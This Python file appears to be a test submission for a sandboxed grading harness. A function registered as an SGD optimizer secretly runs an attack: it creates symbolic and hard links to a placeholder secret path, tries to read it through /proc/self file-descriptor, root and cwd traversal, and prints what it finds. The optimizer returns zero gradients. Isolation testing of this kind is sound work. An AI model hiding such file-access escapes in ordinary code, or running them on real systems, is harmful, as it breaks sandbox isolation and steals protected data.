"""Reach a file by a link of one's own, and by the links of the system.

shows: secret
by: files
"""

import os

from cgp_harness import optimizer

DONE = []


def attack():
    for make in (os.symlink, os.link):
        try:
            make("@SECRET@", f"link_{make.__name__}")
        except OSError:
            pass
    root = os.open("/", os.O_PATH)
    for path in ("link_symlink", "link_link", f"/proc/self/fd/{root}@SECRET@",
                 "/proc/self/root@SECRET@", "/proc/self/cwd/../../../..@SECRET@"):
        try:
            print(open(path).read())
        except OSError:
            pass


@optimizer
def sgd(g, lr=1e-3):
    if not DONE:
        attack()
        DONE.append(True)
    return 0 * g
